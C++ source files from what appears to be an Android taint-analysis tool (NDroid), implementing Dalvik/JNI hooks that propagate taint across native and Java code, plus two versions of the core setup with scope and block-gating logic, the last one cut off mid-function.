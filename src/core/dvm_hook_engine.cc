#include "core/dvm_hook_engine.h"

#include <cinttypes>
#include <cstdio>

namespace ndroid::core {

namespace {
std::string hex(u32 v) {
  char buf[16];
  std::snprintf(buf, sizeof buf, "%x", v);
  return buf;
}
}  // namespace

bool DvmHookEngine::GuestMethodInfo::is_static() const {
  return (access_flags & dvm::kAccStatic) != 0;
}

DvmHookEngine::DvmHookEngine(android::Device& device, TaintEngine& engine,
                             TraceLog& log,
                             std::function<bool(GuestAddr)> third_party,
                             bool multilevel)
    : device_(device),
      engine_(engine),
      log_(log),
      third_party_(std::move(third_party)),
      multilevel_(multilevel) {
  auto& dvm = device_.dvm;
  auto& jni = device_.jni;

  a_call_jni_ = dvm.sym("dvmCallJNIMethod");
  a_call_method_v_ = dvm.sym("dvmCallMethodV");
  a_call_method_a_ = dvm.sym("dvmCallMethodA");
  a_interpret_ = dvm.sym("dvmInterpret");

  for (const auto& [name, addr] : jni.symbols()) {
    if (name.rfind("Call", 0) == 0 && name.find("Method") != std::string::npos) {
      call_stubs_.insert(addr);
    }
  }

  // Table III NOF -> MAF pairs.
  auto nof = [&](const char* name, const char* maf, int kind) {
    nofs_[jni.fn(name)] = NofInfo{name, dvm.sym(maf), kind};
  };
  nof("NewStringUTF", "dvmCreateStringFromCstr", 1);
  nof("NewString", "dvmCreateStringFromUnicode", 2);
  nof("NewObject", "dvmAllocObject", 0);
  nof("NewObjectV", "dvmAllocObject", 0);
  nof("NewObjectA", "dvmAllocObject", 0);
  nof("NewObjectArray", "dvmAllocArrayByClass", 0);
  nof("NewIntArray", "dvmAllocPrimitiveArray", 0);
  nof("NewByteArray", "dvmAllocPrimitiveArray", 0);
  nof("NewCharArray", "dvmAllocPrimitiveArray", 0);
  nof("NewBooleanArray", "dvmAllocPrimitiveArray", 0);

  // Table IV field accessors.
  auto set_hook = [&](const char* name, char type, bool is_static) {
    simple_hooks_[jni.fn(name)] = [this, type, is_static](arm::Cpu& c) {
      hook_field_set(c, type, is_static);
    };
  };
  auto get_hook = [&](const char* name, char type, bool is_static) {
    simple_hooks_[jni.fn(name)] = [this, type, is_static](arm::Cpu& c) {
      hook_field_get(c, type, is_static);
    };
  };
  set_hook("SetObjectField", 'L', false);
  set_hook("SetIntField", 'I', false);
  set_hook("SetBooleanField", 'Z', false);
  set_hook("SetByteField", 'B', false);
  set_hook("SetCharField", 'C', false);
  set_hook("SetShortField", 'S', false);
  set_hook("SetFloatField", 'F', false);
  set_hook("SetStaticObjectField", 'L', true);
  set_hook("SetStaticIntField", 'I', true);
  get_hook("GetObjectField", 'L', false);
  get_hook("GetIntField", 'I', false);
  get_hook("GetBooleanField", 'Z', false);
  get_hook("GetByteField", 'B', false);
  get_hook("GetCharField", 'C', false);
  get_hook("GetShortField", 'S', false);
  get_hook("GetFloatField", 'F', false);
  get_hook("GetStaticObjectField", 'L', true);
  get_hook("GetStaticIntField", 'I', true);

  // TrustCall handlers.
  simple_hooks_[jni.fn("GetStringUTFChars")] = [this](arm::Cpu& c) {
    hook_get_string_utf_chars(c);
  };
  simple_hooks_[jni.fn("GetIntArrayElements")] = [this](arm::Cpu& c) {
    hook_get_array_elements(c);
  };
  simple_hooks_[jni.fn("GetByteArrayElements")] = [this](arm::Cpu& c) {
    hook_get_array_elements(c);
  };
  simple_hooks_[jni.fn("ReleaseIntArrayElements")] = [this](arm::Cpu& c) {
    hook_release_array_elements(c);
  };
  simple_hooks_[jni.fn("ReleaseByteArrayElements")] = [this](arm::Cpu& c) {
    hook_release_array_elements(c);
  };
  simple_hooks_[jni.fn("GetIntArrayRegion")] = [this](arm::Cpu& c) {
    hook_array_region(c, false);
  };
  simple_hooks_[jni.fn("GetByteArrayRegion")] = [this](arm::Cpu& c) {
    hook_array_region(c, false);
  };
  simple_hooks_[jni.fn("SetIntArrayRegion")] = [this](arm::Cpu& c) {
    hook_array_region(c, true);
  };
  simple_hooks_[jni.fn("SetByteArrayRegion")] = [this](arm::Cpu& c) {
    hook_array_region(c, true);
  };

  // Exception group.
  simple_hooks_[jni.fn("ThrowNew")] = [this](arm::Cpu& c) {
    hook_throw_new(c);
  };

  // Every static address on_branch can act on feeds the branch prefilter;
  // dynamic targets (pending exits, active NOFs, the running JNI method's
  // first instruction) are checked explicitly in wants_branch().
  static_targets_.add(a_call_jni_);
  static_targets_.add(a_call_method_v_);
  static_targets_.add(a_call_method_a_);
  static_targets_.add(a_interpret_);
  static_targets_.add(arm::kHostReturnAddr);
  for (GuestAddr s : call_stubs_) static_targets_.add(s);
  for (const auto& [addr, info] : nofs_) static_targets_.add(addr);
  for (const auto& [addr, fn] : simple_hooks_) static_targets_.add(addr);
}

u32 DvmHookEngine::guest_strlen(arm::Cpu& cpu, GuestAddr s) {
  // Word-at-a-time scan (the helper is hot inside Table VI models).
  u32 n = 0;
  while (n < (1u << 20)) {
    const u32 w = cpu.memory().read32(s + n);
    if ((w & 0xFF) == 0) return n;
    if ((w & 0xFF00) == 0) return n + 1;
    if ((w & 0xFF0000) == 0) return n + 2;
    if ((w & 0xFF000000) == 0) return n + 3;
    n += 4;
  }
  return n;
}

Taint DvmHookEngine::object_taint_by_iref(u32 iref) {
  Taint t = engine_.object_shadow(iref);
  auto& irt = device_.dvm.irt();
  if (irt.is_valid(iref)) {
    t |= device_.dvm.heap().object_taint(*irt.decode(iref));
  }
  return t;
}

void DvmHookEngine::push_exit(arm::Cpu& cpu,
                              std::function<void(arm::Cpu&)> fn) {
  exits_.push_back(PendingExit{cpu.state().lr() & ~1u, std::move(fn)});
}

DvmHookEngine::GuestMethodInfo DvmHookEngine::read_method(
    arm::Cpu& cpu, GuestAddr method_struct) {
  using L = dvm::GuestMethodLayout;
  auto& mem = cpu.memory();
  GuestMethodInfo info;
  info.insns = mem.read32(method_struct + L::kInsns);
  info.shorty = mem.read_cstr(mem.read32(method_struct + L::kShorty));
  info.name = mem.read_cstr(mem.read32(method_struct + L::kName));
  info.class_desc = mem.read_cstr(mem.read32(method_struct + L::kClassDesc));
  info.access_flags = mem.read32(method_struct + L::kAccessFlags);
  info.registers_size = mem.read32(method_struct + L::kRegistersSize);
  info.ins_size = mem.read32(method_struct + L::kInsSize);
  return info;
}

// ---------------------------------------------------------------------------
// Dispatch
// ---------------------------------------------------------------------------

void DvmHookEngine::on_branch(arm::Cpu& cpu, GuestAddr from, GuestAddr to) {
  // Pending function-exit actions.
  if (!exits_.empty() && exits_.back().ret_to == to) {
    auto fn = std::move(exits_.back().fn);
    exits_.pop_back();
    fn(cpu);
  }

  // --- (3) Object creation finalisation -----------------------------------
  if (!nof_stack_.empty() && to == nof_stack_.back().ret_to) {
    ActiveNof nof = std::move(nof_stack_.back());
    nof_stack_.pop_back();
    const u32 iref = cpu.state().regs[0];
    if (nof.real_addr != 0) {
      log_.line("realStringAddr:0x" + hex(nof.real_addr));
      if (nof.taint != kTaintClear) {
        if (dvm::Object* obj = device_.dvm.heap().object_at(nof.real_addr)) {
          device_.dvm.heap().add_object_taint(*obj, nof.taint);
          ++objects_tainted;
        }
        log_.line("add taint " + std::to_string(nof.taint) +
                  " to new string object@0x" + hex(nof.real_addr));
        log_.line("t(" + hex(nof.real_addr) + ") := 0x" + hex(nof.taint));
      }
    }
    engine_.add_object_shadow(iref, nof.taint);
    engine_.set_reg(0, nof.taint);
    log_.line(nof.name + " return 0x" + hex(iref));
    log_.line(nof.name + " End");
  }

  // --- (1) JNI entry --------------------------------------------------------
  if (to == a_call_jni_) {
    hook_jni_entry(cpu);
    return;
  }
  hook_native_return_events(cpu, to);

  // --- (2) JNI exit: multilevel chain T1..T6 --------------------------------
  auto in_stub = [](GuestAddr addr, GuestAddr stub) {
    return addr >= stub && addr < stub + kStubRange;
  };
  auto from_call_stub = [&]() {
    for (GuestAddr s : call_stubs_) {
      if (in_stub(from, s)) return true;
    }
    return false;
  };

  if (call_stubs_.contains(to) && third_party_(from)) {
    chain_.push_back(1);
    ++chain_events[0];
  } else if (to == a_call_method_v_ || to == a_call_method_a_) {
    const bool chain_ok =
        !chain_.empty() && chain_.back() == 1 && from_call_stub();
    if (chain_ok) {
      chain_.back() = 2;
      ++chain_events[1];
    }
    if (chain_ok || !multilevel_) {
      hook_call_method_entry(cpu, to == a_call_method_a_ ? 'A' : 'V');
    }
  } else if (to == a_interpret_) {
    const bool chain_ok = !chain_.empty() && chain_.back() == 2 &&
                          (in_stub(from, a_call_method_v_) ||
                           in_stub(from, a_call_method_a_));
    if (chain_ok) {
      chain_.back() = 3;
      ++chain_events[2];
    }
    if (chain_ok || !multilevel_) {
      hook_interpret_entry(cpu);
    }
  } else if (!chain_.empty()) {
    // Unwinding transitions T4..T6.
    if (chain_.back() == 3 && in_stub(from, a_interpret_) &&
        (in_stub(to, a_call_method_v_) || in_stub(to, a_call_method_a_))) {
      chain_.back() = 4;
      ++chain_events[3];
    } else if (chain_.back() == 4 &&
               (in_stub(from, a_call_method_v_) ||
                in_stub(from, a_call_method_a_))) {
      bool to_call_stub = false;
      for (GuestAddr s : call_stubs_) {
        if (in_stub(to, s)) {
          to_call_stub = true;
          break;
        }
      }
      if (to_call_stub) {
        chain_.back() = 5;
        ++chain_events[4];
      }
    } else if (chain_.back() == 5 && from_call_stub() && third_party_(to)) {
      chain_.pop_back();
      ++chain_events[5];
    }
  }

  // --- (3) Object creation entries ------------------------------------------
  hook_nof_entry(cpu, to);

  // --- (4)(5) + TrustCall handlers ------------------------------------------
  if (auto it = simple_hooks_.find(to); it != simple_hooks_.end()) {
    it->second(cpu);
  }
}

// ---------------------------------------------------------------------------
// (1) JNI entry
// ---------------------------------------------------------------------------

void DvmHookEngine::hook_jni_entry(arm::Cpu& cpu) {
  const auto& regs = cpu.state().regs;
  const GuestAddr args_area = regs[0];
  const GuestMethodInfo info = read_method(cpu, regs[2]);
  const u32 n = static_cast<u32>(info.shorty.size()) - 1 +
                (info.is_static() ? 0 : 1);

  log_.line("name: " + info.name);
  log_.line("shorty: " + info.shorty);
  log_.line("class: " + info.class_desc);
  log_.line("insnAddr: " + hex(info.insns));

  SourcePolicy policy;
  // Branch events report halfword-aligned targets; mask the Thumb bit so
  // Thumb-mode native methods match (§V-C handles both instruction sets).
  policy.method_address = info.insns & ~1u;
  policy.method_shorty = info.shorty;
  policy.access_flag = info.access_flags;
  bool any_taint = false;

  std::array<Taint, 4> reg_taints{};
  for (u32 slot = 0; slot < n; ++slot) {
    const u32 value = cpu.memory().read32(args_area + 8 * slot);
    const Taint taint = cpu.memory().read32(args_area + 8 * slot + 4);
    // JNI ABI position: env=0, receiver/class=1, params follow.
    const u32 pos = slot + (info.is_static() ? 2 : 1);
    if (taint != kTaintClear) {
      any_taint = true;
      const u32 shorty_idx = info.is_static() ? slot + 1 : slot;
      const char type =
          (!info.is_static() && slot == 0) ? 'L' : info.shorty[shorty_idx];
      log_.line("args[" + std::to_string(slot) + "]@0x" + hex(value) + " " +
                std::string(1, type) +
                (type == 'L' ? " Ljava/lang/String;" : "") +
                "  taint: 0x" + hex(taint));
    }
    if (pos < 4) {
      reg_taints[pos] = taint;
    } else {
      if (policy.stack_args_taints.size() < pos - 3) {
        policy.stack_args_taints.resize(pos - 3, kTaintClear);
      }
      policy.stack_args_taints[pos - 4] = taint;
    }
  }
  policy.tR0 = reg_taints[0];
  policy.tR1 = reg_taints[1];
  policy.tR2 = reg_taints[2];
  policy.tR3 = reg_taints[3];
  policy.stack_args_num = static_cast<u32>(policy.stack_args_taints.size());

  JniCall call;
  call.args_area = args_area;
  call.result_addr = regs[1];
  call.arg_count = n;
  call.method_address = info.insns & ~1u;
  call.return_type = info.shorty.empty() ? 'V' : info.shorty[0];

  // A guest fault inside a native method unwinds past the bridge without
  // the usual return events; cap the stack so stale entries from faulted
  // calls cannot accumulate without bound.
  if (jni_stack_.size() > 64) jni_stack_.clear();

  if (any_taint && transparent_methods_.contains(call.method_address)) {
    // Pre-analysis proved this method taint-transparent: its instructions
    // touch no memory, make no calls, and its return value is argument
    // independent. Seeding registers/shadows here could only be read back
    // by the method itself, so the whole policy is dead weight.
    log_.line("transparent method, SourcePolicy skipped");
    ++source_policies_skipped;
  } else if (any_taint) {
    policy.handler = [this](SourcePolicy& p, arm::CPUState& state) {
      engine_.set_reg(0, p.tR0);
      engine_.set_reg(1, p.tR1);
      engine_.set_reg(2, p.tR2);
      engine_.set_reg(3, p.tR3);
      for (u32 i = 0; i < p.stack_args_num; ++i) {
        engine_.map().add_range(state.sp() + 4 * i, 4,
                                p.stack_args_taints[i]);
      }
      // Key object taints by indirect reference for L-type parameters (the
      // irefs are the values currently in the argument registers / stack
      // slots). Parameter p (1-based in the shorty) sits at JNI position
      // p+1 regardless of staticness; the receiver of an instance method is
      // an object at position 1.
      const Taint reg_taints[4] = {p.tR0, p.tR1, p.tR2, p.tR3};
      auto shadow_pos = [&](u32 pos, Taint taint) {
        if (taint == kTaintClear) return;
        const u32 value =
            pos < 4 ? state.regs[pos]
                    : device_.memory.read32(state.sp() + 4 * (pos - 4));
        engine_.add_object_shadow(value, taint);
        log_.line("t(" + hex(value) + ") := " + std::to_string(taint));
      };
      if ((p.access_flag & dvm::kAccStatic) == 0) {
        shadow_pos(1, p.tR1);
      }
      for (u32 param = 1; param < p.method_shorty.size(); ++param) {
        if (p.method_shorty[param] != 'L') continue;
        const u32 pos = param + 1;
        const Taint taint =
            pos < 4 ? reg_taints[pos]
                    : (pos - 4 < p.stack_args_num
                           ? p.stack_args_taints[pos - 4]
                           : kTaintClear);
        shadow_pos(pos, taint);
      }
    };
    policies_.put(policy);
    ++source_policies_created;
  }
  jni_stack_.push_back(call);
}

void DvmHookEngine::hook_native_return_events(arm::Cpu& cpu, GuestAddr to) {
  if (jni_stack_.empty()) return;
  JniCall& top = jni_stack_.back();

  if (to == top.method_address && top.phase == 0) {
    top.phase = 1;
    if (SourcePolicy* policy = policies_.find(top.method_address)) {
      log_.line("Find a source function @0x" + hex(top.method_address));
      log_.line("SourceHandler");
      policy->handler(*policy, cpu.state());
      ++source_policies_applied;
    }
    return;
  }

  if (to == arm::kHostReturnAddr) {
    if (top.phase == 1) {
      // The native method just returned: its return-value taint is the
      // shadow of R0 at this moment.
      top.native_ret_taint = engine_.reg(0);
      if (top.return_type == 'L') {
        top.native_ret_taint |= object_taint_by_iref(cpu.state().regs[0]);
      }
      top.phase = 2;
    } else if (top.phase == 2) {
      // The bridge stub is returning: repair the return-taint slot that the
      // TaintDroid policy filled, and taint a returned object.
      const GuestAddr rtaint_slot = top.args_area + 8 * top.arg_count;
      const Taint merged =
          cpu.memory().read32(rtaint_slot) | top.native_ret_taint;
      cpu.memory().write32(rtaint_slot, merged);
      if (top.return_type == 'L' && top.native_ret_taint != kTaintClear) {
        const u32 direct = cpu.memory().read32(top.result_addr);
        if (dvm::Object* obj = device_.dvm.heap().object_at(direct)) {
          device_.dvm.heap().add_object_taint(*obj, top.native_ret_taint);
        }
      }
      jni_stack_.pop_back();
    }
  }
}

// ---------------------------------------------------------------------------
// (2) JNI exit
// ---------------------------------------------------------------------------

void DvmHookEngine::hook_call_method_entry(arm::Cpu& cpu, char kind) {
  (void)kind;
  const auto& regs = cpu.state().regs;
  const GuestMethodInfo info = read_method(cpu, regs[0]);
  const u32 receiver_iref = regs[1];
  const GuestAddr args_ptr = regs[3];

  pending_java_taints_.clear();
  if (!info.is_static()) {
    pending_java_taints_.push_back(engine_.reg(1) |
                                   object_taint_by_iref(receiver_iref));
  }
  for (u32 p = 1; p < info.shorty.size(); ++p) {
    const GuestAddr slot = args_ptr + 4 * (p - 1);
    const u32 raw = cpu.memory().read32(slot);
    Taint t = engine_.map().get_range(slot, 4);
    if (info.shorty[p] == 'L' && raw != 0) {
      t |= object_taint_by_iref(raw);
    }
    pending_java_taints_.push_back(t);
  }
  pending_java_valid_ = true;
}

void DvmHookEngine::hook_interpret_entry(arm::Cpu& cpu) {
  const auto& regs = cpu.state().regs;
  const GuestMethodInfo info = read_method(cpu, regs[0]);
  const GuestAddr fp = regs[1];

  log_.line("dvmInterpret Begin");
  log_.line("Method Name: " + info.name);
  log_.line("Method Shorty: " + info.shorty);
  log_.line("Method insSize: " + std::to_string(info.ins_size));
  log_.line("Method registerSize: " + std::to_string(info.registers_size));
  log_.line("curFrame@0x" + hex(fp));
  log_.line("Method AccessFlag: 0x" + hex(info.access_flags));

  if (!pending_java_valid_) return;
  pending_java_valid_ = false;

  const u32 first_in = info.registers_size - info.ins_size;
  bool restored = false;
  for (u32 k = 0; k < pending_java_taints_.size() && k < info.ins_size; ++k) {
    const Taint t = pending_java_taints_[k];
    if (t == kTaintClear) continue;
    const GuestAddr slot = fp + 8 * (first_in + k) + 4;
    cpu.memory().write32(slot, cpu.memory().read32(slot) | t);
    log_.line("args[" + std::to_string(k) + "] taint: 0x" + hex(t));
    log_.line("add taint to new method frame t[" + hex(slot) +
              "] = 0x" + hex(t));
    restored = true;
  }
  if (restored) ++jni_exit_restores;
}

// ---------------------------------------------------------------------------
// (3) Object creation
// ---------------------------------------------------------------------------

void DvmHookEngine::hook_nof_entry(arm::Cpu& cpu, GuestAddr to) {
  // MAF entry while a NOF is active?
  if (!nof_stack_.empty() && to == nof_stack_.back().maf) {
    log_.line("dvm allocation Begin");
    const std::size_t index = nof_stack_.size() - 1;
    push_exit(cpu, [this, index](arm::Cpu& c) {
      if (index < nof_stack_.size()) {
        nof_stack_[index].real_addr = c.state().regs[0];
        log_.line("dvm allocation return 0x" + hex(c.state().regs[0]));
        log_.line("dvm allocation End");
      }
    });
    return;
  }

  auto it = nofs_.find(to);
  if (it == nofs_.end()) return;
  const NofInfo& nof = it->second;
  const auto& regs = cpu.state().regs;

  Taint taint = kTaintClear;
  if (nof.kind == 1) {
    const u32 len = guest_strlen(cpu, regs[1]);
    taint = engine_.map().get_range(regs[1], len);
    log_.line(nof.name + " Begin");
    log_.line(cpu.memory().read_cstr(regs[1], 1u << 20));
  } else if (nof.kind == 2) {
    taint = engine_.map().get_range(regs[1], 2 * regs[2]);
    log_.line(nof.name + " Begin");
  } else {
    log_.line(nof.name + " Begin");
  }
  nof_stack_.push_back(
      ActiveNof{nof.name, nof.maf, taint, 0, cpu.state().lr() & ~1u});
}

// ---------------------------------------------------------------------------
// (4) Field access
// ---------------------------------------------------------------------------

void DvmHookEngine::hook_field_set(arm::Cpu& cpu, char type, bool is_static) {
  const auto& regs = cpu.state().regs;
  Taint t = engine_.reg(3);
  if (type == 'L') t |= object_taint_by_iref(regs[3]);
  if (t == kTaintClear) return;

  auto& dvm = device_.dvm;
  const auto fr = dvm.decode_field_id(regs[2]);
  if (is_static) {
    fr.cls->statics().at(fr.field->index).taint |= t;
  } else if (dvm.irt().is_valid(regs[1])) {
    dvm::Object* obj = dvm.irt().decode(regs[1]);
    obj->fields().at(fr.field->index).taint |= t;
    dvm.heap().sync_payload(*obj);
  }
  log_.line("Set" + std::string(1, type) + "Field " + fr.field->name +
            " taint: 0x" + hex(t));
}

void DvmHookEngine::hook_field_get(arm::Cpu& cpu, char type, bool is_static) {
  const auto& regs = cpu.state().regs;
  auto& dvm = device_.dvm;
  const auto fr = dvm.decode_field_id(regs[2]);
  Taint t = kTaintClear;
  if (is_static) {
    t = fr.cls->statics().at(fr.field->index).taint;
  } else if (dvm.irt().is_valid(regs[1])) {
    t = dvm.irt()
            .decode(regs[1])
            ->fields()
            .at(fr.field->index)
            .taint;
    t |= engine_.object_shadow(regs[1]);
  }
  push_exit(cpu, [this, t, type](arm::Cpu& c) {
    engine_.set_reg(0, t);
    if (type == 'L' && t != kTaintClear) {
      engine_.add_object_shadow(c.state().regs[0], t);
    }
  });
}

// ---------------------------------------------------------------------------
// TrustCall handlers
// ---------------------------------------------------------------------------

void DvmHookEngine::hook_get_string_utf_chars(arm::Cpu& cpu) {
  const u32 iref = cpu.state().regs[1];
  const Taint t = object_taint_by_iref(iref);
  log_.line("TrustCallHandler[GetStringUTFChars] begin");
  log_.line("jstring taint:" + std::to_string(t));
  log_.line("TrustCallHandler[GetStringUTFChars] end");
  push_exit(cpu, [this, t](arm::Cpu& c) {
    const GuestAddr buf = c.state().regs[0];
    if (buf == 0 || t == kTaintClear) return;
    const u32 len = guest_strlen(c, buf);
    engine_.map().add_range(buf, len + 1, t);
    engine_.set_reg(0, t);
    log_.line("t(" + hex(buf) + ") := " + std::to_string(t));
  });
}

void DvmHookEngine::hook_get_array_elements(arm::Cpu& cpu) {
  const u32 iref = cpu.state().regs[1];
  const Taint t = object_taint_by_iref(iref);
  u32 bytes = 0;
  auto& irt = device_.dvm.irt();
  if (irt.is_valid(iref)) {
    const dvm::Object* arr = irt.decode(iref);
    bytes = arr->length() * arr->elem_size();
  }
  push_exit(cpu, [this, t, bytes](arm::Cpu& c) {
    const GuestAddr buf = c.state().regs[0];
    if (buf == 0 || t == kTaintClear) return;
    engine_.map().add_range(buf, bytes, t);
    engine_.set_reg(0, t);
    log_.line("t(" + hex(buf) + ") := " + std::to_string(t));
  });
}

void DvmHookEngine::hook_release_array_elements(arm::Cpu& cpu) {
  const auto& regs = cpu.state().regs;
  if (regs[3] != 0) return;  // only mode 0 copies back
  auto& irt = device_.dvm.irt();
  if (!irt.is_valid(regs[1])) return;
  dvm::Object* arr = irt.decode(regs[1]);
  const Taint t =
      engine_.map().get_range(regs[2], arr->length() * arr->elem_size());
  if (t == kTaintClear) return;
  device_.dvm.heap().add_object_taint(*arr, t);
  engine_.add_object_shadow(regs[1], t);
}

void DvmHookEngine::hook_array_region(arm::Cpu& cpu, bool set) {
  const auto& regs = cpu.state().regs;
  auto& irt = device_.dvm.irt();
  if (!irt.is_valid(regs[1])) return;
  dvm::Object* arr = irt.decode(regs[1]);
  const u32 bytes = regs[3] * arr->elem_size();
  const GuestAddr buf = cpu.memory().read32(cpu.state().sp());
  if (set) {
    const Taint t = engine_.map().get_range(buf, bytes);
    if (t != kTaintClear) {
      device_.dvm.heap().add_object_taint(*arr, t);
      engine_.add_object_shadow(regs[1], t);
    }
  } else {
    const Taint t = object_taint_by_iref(regs[1]);
    if (t != kTaintClear) engine_.map().add_range(buf, bytes, t);
  }
}

// ---------------------------------------------------------------------------
// (5) Exceptions
// ---------------------------------------------------------------------------

void DvmHookEngine::hook_throw_new(arm::Cpu& cpu) {
  const GuestAddr msg = cpu.state().regs[2];
  const Taint t = engine_.map().get_range(msg, guest_strlen(cpu, msg));
  log_.line("ThrowNew Begin");
  if (t == kTaintClear) return;
  push_exit(cpu, [this, t](arm::Cpu&) {
    dvm::Object* exc = device_.dvm.pending_exception;
    if (exc == nullptr) return;
    const dvm::Field* f = exc->clazz()->find_instance_field("message");
    if (f == nullptr) return;
    const u32 msg_addr = exc->fields().at(f->index).value;
    if (dvm::Object* message = device_.dvm.heap().object_at(msg_addr)) {
      device_.dvm.heap().add_object_taint(*message, t);
      ++objects_tainted;
      log_.line("add taint " + std::to_string(t) +
                " to exception message@0x" + hex(msg_addr));
    }
  });
}

}  // namespace ndroid::core
