#include "core/ndroid.h"

namespace ndroid::core {

std::function<bool(GuestAddr)> NDroid::scope_predicate() const {
  using android::Layout;
  switch (config_.scope) {
    case NDroidConfig::Scope::kThirdParty:
      return [](GuestAddr pc) {
        return pc >= Layout::kAppLibBase && pc < Layout::kHeapBase;
      };
    case NDroidConfig::Scope::kThirdPartyAndLibc:
      return [](GuestAddr pc) {
        return (pc >= Layout::kAppLibBase && pc < Layout::kHeapBase) ||
               (pc >= Layout::kLibc && pc < Layout::kLibc + Layout::kLibcSize);
      };
    case NDroidConfig::Scope::kAll:
      return [](GuestAddr) { return true; };
  }
  return [](GuestAddr) { return false; };
}

NDroid::NDroid(android::Device& device, NDroidConfig config)
    : device_(device), config_(config) {
  log_.echo = config_.echo_log;

  tracer_ = std::make_unique<InstructionTracer>(
      engine_, scope_predicate(), config_.handler_cache,
      config_.trace_disassembly ? &log_ : nullptr);
  syslib_ = std::make_unique<SysLibHookEngine>(
      device_.libc, device_.kernel, engine_, log_, config_.syslib_models);
  // T1 of the multilevel chain asks whether the branch source is in the
  // third-party native library under examination.
  auto third_party = [](GuestAddr pc) {
    using android::Layout;
    return pc >= Layout::kAppLibBase && pc < Layout::kHeapBase;
  };
  dvm_hooks_ = std::make_unique<DvmHookEngine>(
      device_, engine_, log_, third_party, config_.multilevel_hooking);
  if (config_.taint_protection) {
    guard_ = std::make_unique<TaintGuard>(device_, third_party);
  }

  branch_hook_id_ = device_.cpu.add_branch_hook(
      [this](arm::Cpu& cpu, GuestAddr from, GuestAddr to) {
        if (config_.dvm_hooks) dvm_hooks_->on_branch(cpu, from, to);
        if (config_.syslib_models || config_.sink_checks) {
          syslib_->on_branch(cpu, from, to);
        }
      });
  insn_hook_id_ = device_.cpu.add_insn_hook(
      [this](arm::Cpu& cpu, const arm::Insn& insn, GuestAddr pc) {
        if (config_.instruction_tracer) tracer_->on_insn(cpu, insn, pc);
        if (config_.sink_checks) syslib_->on_insn(cpu, insn, pc);
        if (guard_) guard_->on_insn(cpu, insn, pc);
      });
}

NDroid::~NDroid() {
  device_.cpu.remove_branch_hook(branch_hook_id_);
  device_.cpu.remove_insn_hook(insn_hook_id_);
}

}  // namespace ndroid::core
