#include "core/ndroid.h"

#include <unordered_set>

#include "static/summary.h"
#include "static/summary_cache.h"
#include "static/summary_store.h"

namespace ndroid::core {

std::function<bool(GuestAddr)> NDroid::scope_predicate() const {
  using android::Layout;
  switch (config_.scope) {
    case NDroidConfig::Scope::kThirdParty:
      return [](GuestAddr pc) {
        return pc >= Layout::kAppLibBase && pc < Layout::kHeapBase;
      };
    case NDroidConfig::Scope::kThirdPartyAndLibc:
      return [](GuestAddr pc) {
        return (pc >= Layout::kAppLibBase && pc < Layout::kHeapBase) ||
               (pc >= Layout::kLibc && pc < Layout::kLibc + Layout::kLibcSize);
      };
    case NDroidConfig::Scope::kAll:
      return [](GuestAddr) { return true; };
  }
  return [](GuestAddr) { return false; };
}

bool NDroid::block_in_scope(arm::TranslationBlock& tb) {
  // Memoised per block; blocks are straight-line and short, so testing the
  // first and last instruction covers a region-boundary crossing. The memo
  // is safe because set_block_gate flushes cached blocks on attach/detach.
  if (tb.scope_cache == 0) {
    const GuestAddr last = tb.insns.back().pc;
    tb.scope_cache = (scope_(tb.pc) || scope_(last)) ? 1 : 2;
  }
  return tb.scope_cache == 1;
}

bool NDroid::block_gate(arm::TranslationBlock& tb) {
  // The guard's store checks fire regardless of taint liveness.
  if (guard_ != nullptr && tb.has_stores) return true;
  // SVC sink checks read only the memory taint map; with no tainted bytes
  // the check is a guaranteed no-op.
  const bool mem_taint = engine_.map().tainted_bytes() != 0;
  if (config_.sink_checks && tb.has_svc && mem_taint) return true;
  if (!config_.instruction_tracer) return false;
  if (!block_in_scope(tb)) return false;  // the tracer no-ops out of scope
  // Disassembly tracing must observe every in-scope instruction.
  if (config_.trace_disassembly) return true;
  const bool reg_taint = engine_.tainted_regs() != 0;
  // Nothing tainted anywhere: every Table V rule degenerates to writing
  // clear over clear. Skip the block.
  if (!reg_taint && !mem_taint) return false;
  // Clean registers and no memory operations: a pure ALU block can neither
  // pick up taint from memory nor needs to clear any.
  if (!reg_taint && !tb.has_loads && !tb.has_stores) return false;
  // Summary-gated fast path: taint is live, but the static summary of the
  // function this block belongs to proves the block cannot touch it. The
  // block executes a subset of the function's instructions (lookup verifies
  // pc is an instruction boundary of a same-mode lifted function), so the
  // function-level facts bound the block's behaviour:
  //   * no tainted register is in the function's Table V footprint, and
  //   * its memory accesses cannot reach a tainted byte (no accesses at
  //     all / constant windows on provably clean pages / stack slots while
  //     the taint map is empty).
  // Every Table V rule in the block then writes clear over clear. The memo
  // epoch is the engine's mutation epoch (tainted-register-mask changes and
  // shadow-page liveness crossings), which covers every input read here.
  if (summary_gate_ != nullptr) {
    const auto* s = summary_gate_->lookup(tb.pc, tb.thumb);
    if (s != nullptr && !s->opaque() &&
        (engine_.tainted_reg_mask() & s->touched_regs) == 0) {
      using static_analysis::MemKind;
      bool mem_clear = false;
      switch (s->mem_kind) {
        case MemKind::kNone:
          mem_clear = true;
          break;
        case MemKind::kStatic:
          mem_clear = !mem_taint;
          if (!mem_clear) {
            mem_clear = true;
            for (const auto& w : s->windows) {
              if (engine_.map().any_tainted_in(w.lo, w.hi)) {
                mem_clear = false;
                break;
              }
            }
          }
          break;
        case MemKind::kStack:
          // SP-relative windows cannot be checked against the taint map
          // without the runtime SP, and SP changes do not bump the memo
          // epoch — only the map-is-empty fact is epoch-stable.
          mem_clear = !mem_taint;
          break;
        case MemKind::kOpaque:
          break;
      }
      if (mem_clear) {
        ++summary_gate_skips;
        return false;
      }
    }
  }
  return true;
}

NDroid::NDroid(android::Device& device, NDroidConfig config)
    : device_(device), config_(config), scope_(scope_predicate()) {
  log_.echo = config_.echo_log;

  tracer_ = std::make_unique<InstructionTracer>(
      engine_, scope_, config_.handler_cache,
      config_.trace_disassembly ? &log_ : nullptr);
  syslib_ = std::make_unique<SysLibHookEngine>(
      device_.libc, device_.kernel, engine_, log_, config_.syslib_models);
  // T1 of the multilevel chain asks whether the branch source is in the
  // third-party native library under examination.
  auto third_party = [](GuestAddr pc) {
    using android::Layout;
    return pc >= Layout::kAppLibBase && pc < Layout::kHeapBase;
  };
  dvm_hooks_ = std::make_unique<DvmHookEngine>(
      device_, engine_, log_, third_party, config_.multilevel_hooking);
  if (config_.taint_protection) {
    guard_ = std::make_unique<TaintGuard>(device_, third_party);
  }

  // Each engine's wants_branch() is a guaranteed-no-op prefilter, so hot
  // loop back-edges (the overwhelming majority of branch events) skip the
  // dispatch bodies entirely.
  branch_hook_id_ = device_.cpu.add_branch_hook(
      [this](arm::Cpu& cpu, GuestAddr from, GuestAddr to) {
